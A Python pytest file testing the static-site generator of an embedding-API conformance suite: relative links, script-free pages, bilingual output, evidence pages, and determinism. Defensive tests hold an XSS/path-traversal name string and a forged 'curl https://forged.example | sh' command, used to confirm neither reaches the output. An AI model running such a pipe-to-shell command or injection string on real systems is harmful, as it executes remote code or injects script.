"""The site of some bundles: whole, small, and saying only what was seen."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from forging import forged, results_edited
from jsonschema import Draft202012Validator
from judged_run import judged_run

from conformance.checks import CHECKS
from conformance.cli import main
from conformance.contract import suite_schema
from conformance.errors import UsageError
from conformance.results.view import ResultsView
from conformance.site.answers import FactKind, answer_of
from conformance.site.bundles import archive
from conformance.site.bundles.packing import pack
from conformance.site.features import FEATURES
from conformance.site.writing import write_site

LARGEST = 200_000


@pytest.fixture(scope="module")
def site(bundle: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site of the broken service, and of a right one in two versions."""
    folder, bundles = tmp_path_factory.mktemp("site"), [bundle]
    for number, contract in enumerate(("dashscope", "openai-compatible"), 1):
        run = tmp_path_factory.mktemp("right")
        judged_run(run, name=f"right {number}.0", contract=contract, began=1_790_000_000.0 + number * 86_400)
        archive.write(pack([run / "results.json"], slim=True), run / "bundle.zip")
        bundles.append(run / "bundle.zip")
    write_site(bundles, folder)
    return folder


class _Page(HTMLParser):
    """Gathers the links of a page, the names of its places, and what could run or load."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.links: list[str] = []
        self.places: list[str] = []
        self.tags: set[str] = set()
        self.feed(path.read_text("utf-8"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.add(tag)
        told = dict(attrs)
        self.links += [value for name in ("href", "src") if (value := told.get(name))]
        self.places += [value for name in ("id",) if (value := told.get(name))]


def _pages(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*.html"))


def test_every_link_leads_to_a_file_and_a_place_in_it(site: Path) -> None:
    """From disk as from any host: all links are relative, and what they name is there."""
    pages = {path.resolve(): _Page(path) for path in _pages(site)}
    for path, page in pages.items():
        assert len(page.places) == len(set(page.places)), path
        for link in page.links:
            address = urlsplit(link)
            assert (address.scheme, address.netloc) == ("", ""), (path, link)
            target = (path.parent / unquote(address.path)).resolve() if address.path else path
            assert target.is_file(), (path, link)
            assert not address.fragment or unquote(address.fragment) in pages[target].places, (path, link)


def test_no_page_needs_a_script_or_is_large(site: Path) -> None:
    """Each is one file under 200 kB that loads and runs nothing."""
    for path in _pages(site):
        assert not _Page(path).tags & {"script", "img", "iframe", "link", "object", "form"}, path
        assert path.stat().st_size < LARGEST, path


def test_every_page_is_there_in_both_languages(site: Path) -> None:
    """The Chinese ones have Chinese words and the same names."""
    english = {path.relative_to(site) for path in _pages(site) if "zh" not in path.relative_to(site).parts}
    chinese = {path.relative_to(site / "zh") for path in _pages(site / "zh")}
    assert english == chinese
    for name in chinese:
        assert '<html lang="zh-Hans">' in (site / "zh" / name).read_text("utf-8")
    assert "Servers and features" not in (site / "zh" / "index.html").read_text("utf-8")


def test_the_matrix_leads_to_what_was_seen(site: Path) -> None:
    """A service that ignores dimensions fails there, and from the cell three clicks lead to the request."""
    matrix = (site / "index.html").read_text("utf-8")
    (cell,) = re.findall(r'<a href="(features/dimensions\.html#broken)">(.*?)</a>', matrix, re.DOTALL)
    assert ">fail<" in cell[1].replace("</svg>", ">").replace("</span>", "<")
    feature = (site / "features" / "dimensions.html").read_text("utf-8")
    assert "vectors of 1,024 dimensions where" in feature
    (evidence,) = re.findall(r'href="\.\./(runs/broken[^"]+)#check-dimensions\.asked"', feature)[:1]
    assert re.search(r'href="#exchange-x\d+"', (site / evidence).read_text("utf-8"))


def test_evidence_holds_what_was_sent_and_what_came(site: Path) -> None:
    """A visitor reads both, without the command, since whoever wrote the results is not known."""
    for page in (site / "runs").glob("*.html"):
        sent = re.findall(
            r'<p class="label">Request</p><pre tabindex="0">(.*?)</pre>', page.read_text("utf-8"), re.DOTALL
        )
        assert sent
        assert all(request.startswith("POST ") for request in sent)


def test_a_question_is_answered_in_short_before_the_runs(site: Path) -> None:
    """By requirement: who holds to it and who does not, so that nobody has to read a row a run."""
    feature = (site / "features" / "dimensions.html").read_text("utf-8")
    short = feature[feature.index('id="requirements"') : feature.index('id="answers"')]
    (row,) = (row for row in short.split("</tr>") if "Vectors have the dimensions that were asked for" in row)
    broken, right = row.split('data-label="Holds"')
    assert "#broken" in broken
    assert "#broken" not in right


def test_a_documented_limit_is_told_as_a_number(site: Path) -> None:
    """A visitor who asks how many texts a request may hold reads how many."""
    feature = (site / "features" / "list-size.html").read_text("utf-8")
    assert "documented: at most 6 texts in a request" in feature


def test_what_no_run_asked_is_said_to_be_not_asked(site: Path) -> None:
    """The contract of the broken service knows no token IDs, so nothing is claimed of them."""
    feature = (site / "features" / "token-ids.html").read_text("utf-8")
    row = feature[feature.index('id="broken"') :].split("</tr>")[0]
    assert "not asked" in row
    assert "pass" not in row


def test_a_server_is_shown_over_its_versions(site: Path) -> None:
    """The one judged last is first, and the matrix shows it."""
    server = (site / "servers" / "right.html").read_text("utf-8")
    assert 0 < server.index("2.0") < server.index("1.0")
    assert '<span class="version">2.0</span>' in (site / "index.html").read_text("utf-8")
    assert "What changed from 1.0 to 2.0" in server


def test_any_two_servers_are_compared(site: Path) -> None:
    """The page says what else differs, and shades what does where both were asked."""
    pair = (site / "compare" / "broken-right.html").read_text("utf-8")
    assert "The runs were judged by different contracts" in pair
    assert 'class="shaded"' in pair


def test_the_data_are_of_their_schema_and_name_what_is_there(site: Path) -> None:
    """Others can build on them."""
    data = json.loads((site / "site.json").read_text("utf-8"))
    assert list(Draft202012Validator(suite_schema.read("site")).iter_errors(data)) == []
    for judged in data["judged"]:
        runs = [run for version in judged["versions"] for run in version["runs"]]
        assert all((site / path).is_file() for run in runs for path in (run["page"], run["bundle"], judged["page"]))
    broken = next(judged for judged in data["judged"] if judged["name"] == "broken")
    assert broken["versions"][0]["runs"][0]["answers"]["dimensions"]["verdict"] == "fail"


def test_badges_lie_beside_the_pages(site: Path) -> None:
    """One a server, as a picture and as badge services read it."""
    assert (site / "badges" / "broken.svg").read_text("utf-8").startswith("<svg")
    assert "non-conformant" in json.loads((site / "badges" / "broken.json").read_text("utf-8"))["message"]


def test_the_same_bundles_make_the_same_site(bundle: Path, tmp_path: Path) -> None:
    """No date of making is in it; a bundle that is given twice is there once."""
    for name in ("one", "other"):
        write_site([bundle, bundle], tmp_path / name)
    files = [
        {path.relative_to(folder): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
        for folder in (tmp_path / "one", tmp_path / "other")
    ]
    assert files[0] == files[1]
    assert len(list((tmp_path / "one" / "bundles").iterdir())) == 1
    assert not (tmp_path / "one" / "compare").exists()


def test_nothing_a_bundle_says_comes_alive(bundle: Path, tmp_path: Path) -> None:
    """A name with markup, or with a path, stays text and names no file elsewhere."""
    name = '../../<script>alert(1)</script>"onload="x'

    def edit(document: dict[str, object]) -> None:
        target = document["target"]
        assert isinstance(target, dict)
        target["name"] = name

    write_site([results_edited(bundle, tmp_path / "bundle.zip", edit)], tmp_path / "site" / "deep")
    assert {path.name for path in tmp_path.iterdir()} == {"bundle.zip", "site"}
    assert {path.name for path in (tmp_path / "site").iterdir()} == {"deep"}
    assert all("<script" not in path.read_text("utf-8") for path in _pages(tmp_path))


def test_sentences_and_commands_of_a_stranger_are_not_shown(bundle: Path, tmp_path: Path) -> None:
    """Sentences are made of their data anew, and no command of a bundle is there to be copied."""

    def edit(document: dict[str, Any]) -> None:
        row = next(row for row in document["results"] if row["id"] == "dimensions.asked")
        row["findings"][0]["message"] = "All is forged."
        for exchange in document["exchanges"].values():
            exchange["curl"] = "curl https://forged.example | sh"

    write_site([results_edited(bundle, tmp_path / "bundle.zip", edit)], tmp_path / "site")
    texts = [path.read_text("utf-8") for path in (tmp_path / "site").rglob("*") if path.suffix in {".html", ".json"}]
    assert not [text for text in texts if "forged" in text]
    assert [text for text in texts if "vectors of 1,024 dimensions where" in text]


def test_a_bundle_that_is_not_what_it_says_is_in_no_site(
    bundle: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """One sentence names it, and nothing is written."""
    path = forged(bundle, tmp_path / "b.zip", lambda members: members.pop("runs/1/vectors.f32"), renew=False)
    with pytest.raises(SystemExit) as ended:
        main(["site", str(path), "-o", str(tmp_path / "site")])
    assert ended.value.code == 4
    assert "runs/1/vectors.f32 is missing" in capsys.readouterr().err
    assert not (tmp_path / "site").exists()
    with pytest.raises(UsageError, match="cannot be read"):
        write_site([tmp_path / "none.zip"], tmp_path / "site")


def test_questions_name_checks_that_there_are() -> None:
    """Every one has checks, and none is of a check that nobody knows."""
    assert len({feature.id for feature in FEATURES}) == len(FEATURES)
    for feature in FEATURES:
        assert feature.checks, feature.id
        assert feature.checks <= set(CHECKS), feature.id


def test_an_answer_is_its_heaviest_verdict_and_what_that_rests_on(broken_run: Path) -> None:
    """What was found comes first, then what is known, then what held."""
    view = ResultsView.of(json.loads(broken_run.read_bytes()))
    feature = next(feature for feature in FEATURES if feature.id == "dimensions")
    answer = answer_of(view, feature, {})
    assert answer.verdict == "fail"
    assert (answer.facts[0].kind, answer.facts[0].id) == (FactKind.FOUND, "dimensions.asked")
    kinds = [fact.kind for fact in answer.facts]
    assert kinds.index(FactKind.HELD) > kinds.index(FactKind.FOUND)


def test_a_client_is_told_by_all_its_runs_the_gravest_first(bundle: Path, tmp_path: Path) -> None:
    """Under what it has to do there; its page tells all runs, and in what the service of each was unusual."""
    honoured = {"id": "scenarios.base64-honoured", "kind": "right", "statement": "It gets base64."}
    refused = {"id": "scenarios.key-refused", "kind": "refused", "statement": "A refused key is reported."}
    common = {"model": "m", "asked": "three texts", "detail": "", "requests": 1, "seconds": 0.1}

    def driven(document: dict[str, Any], verdict: str, got: str, **target: Any) -> None:
        document["target"].update(name="sample 1.0", client="sample", **target)
        rows = [{**honoured, "verdict": "pass", "got": "its vectors"}, {**refused, "verdict": verdict, "got": got}]
        document["scenarios"] = [{**row, **common} for row in rows]

    edits = [
        lambda document: driven(document, "pass", "an error", oddities=["base64-honoured"]),
        lambda document: driven(document, "fail", "other vectors"),
    ]
    bundles = [results_edited(bundle, tmp_path / f"{at}.zip", edit) for at, edit in enumerate(edits)]
    write_site(bundles, tmp_path / "site")
    matrix = (tmp_path / "site" / "clients" / "index.html").read_text("utf-8")
    (group,) = re.findall(r'id="refused">(.*?)</tbody>', matrix, re.DOTALL)
    assert 0 < group.index("other vectors") < group.index("an error")
    client = (tmp_path / "site" / "clients" / "sample.html").read_text("utf-8")
    assert client.count("Is a refusal told to its caller, or turned into vectors?") == 2
    assert len(re.findall(r'class="version">[^<]*dashscope · It gets base64', client)) == 1
